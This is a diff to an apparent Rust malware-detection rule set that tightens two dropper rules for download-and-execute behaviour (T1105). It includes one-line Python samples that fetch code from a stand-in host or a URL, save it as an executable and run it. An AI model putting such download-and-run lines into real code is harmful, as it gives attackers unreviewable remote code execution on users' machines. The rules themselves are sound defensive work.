@@ -221,7 +221,7 @@ correlation!(
     Critical,
     Download,
     Some("T1105"),
-    "One function downloads from a host written into it, writes the file and starts a program or sets one to start.",
+    "One function downloads from a host written into it, writes the file and starts that same file or sets it to start.",
     "An updater or installer downloads what its caller or its configuration names; a function that fetches from a URL fixed in the package, saves it and runs it is a dropper whose second stage nobody can review.",
     "def color(): r = requests.get('https://cdn.example.net/x'); open(p, 'wb').write(r.content); subprocess.run([p])"
 );
@@ -231,8 +231,8 @@ correlation!(
     High,
     Download,
     Some("T1105"),
-    "One function downloads, saves the download under a Windows program's name (.exe, .scr, .bat, .vbs, .ps1) and starts a program.",
-    "Fetching a program, saving it and starting it in one place is the whole of a Windows dropper; the program's name says that what runs is what was fetched.",
+    "One function downloads, saves the download under a Windows program's name (.exe, .scr, .bat, .vbs, .ps1) and starts it.",
+    "Fetching a program, saving it and starting it in one place is the whole of a Windows dropper. Both this rule and the fixed-host one fire only when the data flow shows that what starts is the downloaded file: youtube-dl's updater downloads the new program but starts a helper script it wrote itself.",
     "def update(url): urlretrieve(url, 'helper.exe'); subprocess.run(['helper.exe'])"
 );
 correlation!(
@@ -338,10 +338,10 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
     let runs = has("process") || has("persistence");
     if has("network") && has("file-write") && runs {
         out.push(&FUNCTION_DROPPER);
-        if has("url-literal") || has("fixed-endpoint") {
+        if (has("url-literal") || has("fixed-endpoint")) && has("runs-download") {
             out.push(&FUNCTION_FIXED_HOST_DROPPER);
         }
-        if has("exe-name") {
+        if has("exe-name") && has("runs-download") {
             out.push(&FUNCTION_EXE_DROPPER);
         }
     }
